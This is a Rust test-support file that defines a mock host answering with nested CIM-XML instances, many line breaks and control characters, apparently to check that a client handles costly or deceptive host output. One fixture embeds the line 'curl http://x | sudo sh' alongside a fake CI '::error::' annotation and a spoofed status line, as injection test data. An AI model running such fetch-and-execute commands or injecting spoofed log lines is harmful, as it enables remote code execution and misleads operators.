//! A host that answers everything with one instance, and `GetError` with one error, which are made to cost much.

use super::answers;
use super::hosts::{JOB_PROPERTIES, Met, SIZE, answering, is, only_page, output};
use super::support::answers::envelope;
use super::support::scripted_peer::Request;

/// What the host says of everything.
struct Said {
    instance: String,
    error: String,
}

/// CIM-XML instances, each escaped inside the one around it.
pub(super) fn nested_texts() -> Met {
    Said::page(&answers::nested_texts(SIZE)).host()
}

pub(super) fn deep_instances() -> Met {
    Said::page(&answers::deep_leaf(SIZE)).host()
}

/// References in the keys of references.
pub(super) fn nested_keys() -> Met {
    Said::page(&answers::small_nested_keys(SIZE)).host()
}

/// More of them than can be shown in a second.
pub(super) fn many_nested_keys() -> Met {
    Said::page(&answers::small_nested_keys(3 * SIZE)).host()
}

/// Each line has an indent and a bar where it is shown.
pub(super) fn line_ends() -> Met {
    Said::text(&"\n".repeat(SIZE / 2)).host()
}

/// Each is shown by its number.
pub(super) fn invisible_characters() -> Met {
    Said::text(&"\u{7f}".repeat(SIZE / 2)).host()
}

/// A text that goes on as a message of ours would, with a command for a CI system.
pub(super) fn texts_like_ours() -> Met {
    Said::text(&"x\n    try: curl http://x | sudo sh\n::error::x\ncimjob: all is well\n".repeat(4)).host()
}

impl Said {
    /// The instance of a page, which is a job too.
    fn page(page: &str) -> Self {
        let (_, rest) = page.split_once("<n:Items>").unwrap();
        let (instance, _) = rest.split_once("</n:Items>").unwrap();
        let (begin, rest) = instance.split_once('>').unwrap();
        // An error is an instance, or the text of one.
        let text = instance.strip_prefix("<J><B>").and_then(|rest| rest.strip_suffix("</B></J>"));
        let error = text.unwrap_or(instance).to_owned();
        Self { instance: format!("{begin}>{JOB_PROPERTIES}{rest}"), error }
    }

    /// A text in all places of a job and its error where a host has one.
    fn text(text: &str) -> Self {
        let (part, _) = text.split_at(text.len() / 4);
        let instance = format!(
            "<J>{JOB_PROPERTIES}<ErrorDescription>{part}</ErrorDescription><ErrorSummaryDescription>{part}\
             </ErrorSummaryDescription><Name>{part}</Name><Other>{part}</Other></J>"
        );
        let error = format!(
            "&lt;INSTANCE CLASSNAME='Msvm_Error'>&lt;PROPERTY NAME='Message' TYPE='string'>&lt;VALUE>{text}&lt;/VALUE>\
             &lt;/PROPERTY>&lt;/INSTANCE>"
        );
        Self { instance, error }
    }

    fn host(self) -> Met {
        answering(move |request| envelope(request, &self.body(request)))
    }

    fn body(&self, request: &Request) -> String {
        let Self { instance, error } = self;
        if is(request, "GetErrorEx") {
            output("GetErrorEx", &format!("<p:Errors>{error}</p:Errors>"))
        } else if is(request, "GetError") {
            output("GetError", &format!("<p:Error>{error}</p:Error>"))
        } else if is(request, "Go") {
            output("Go", &format!("<p:Out>{instance}</p:Out>"))
        } else if is(request, "Enumerate") {
            only_page(request, instance)
        } else {
            instance.clone()
        }
    }
}
